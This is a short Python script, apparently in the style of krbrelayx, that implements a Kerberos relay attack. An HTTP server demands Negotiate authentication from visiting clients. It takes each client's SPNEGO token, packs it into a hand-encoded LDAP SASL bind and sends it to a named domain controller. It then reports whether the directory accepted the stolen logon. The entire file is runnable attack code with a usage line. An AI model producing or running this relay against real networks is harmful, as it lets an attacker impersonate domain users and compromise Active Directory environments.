"""Hands on Kerberos logons, as krbrelayx does: a web server that shows the token it is given to a
directory (a bind with GSS-SPNEGO, RFC 4513 5.2.1). relay.py PORT CONTROLLER
"""

import base64
import http.server
import socket
import sys

# resultCode success (RFC 4511 4.1.9).
SUCCESS = b"\x0a\x01\x00"


def tagged(tag, *parts):
    """BER: lengths in one byte or in three."""
    content = b"".join(parts)
    short = len(content) < 128
    length = bytes([len(content)]) if short else b"\x82" + len(content).to_bytes(2, "big")
    return bytes([tag]) + length + content


def text(value):
    return tagged(0x04, value)


def number(value, tag=0x02):
    return tagged(tag, bytes([value]))


def bind(token):
    sasl = tagged(0xA3, text(b"GSS-SPNEGO"), text(token))
    return tagged(0x30, number(1), tagged(0x60, number(3), text(b""), sasl))


class Visit(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        scheme, _, token = self.headers.get("Authorization", "").partition(" ")
        if scheme != "Negotiate":
            self.send_response(401)
            self.send_header("WWW-Authenticate", "Negotiate")
            self.end_headers()
            return
        with socket.create_connection((controller, 389), timeout=5) as directory:
            directory.sendall(bind(base64.b64decode(token)))
            believed = SUCCESS in directory.recv(4096)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(f"believed: {believed}\n".encode())

    def log_message(self, *_):
        pass


port, controller = sys.argv[1:]
http.server.HTTPServer(("", int(port)), Visit).serve_forever()
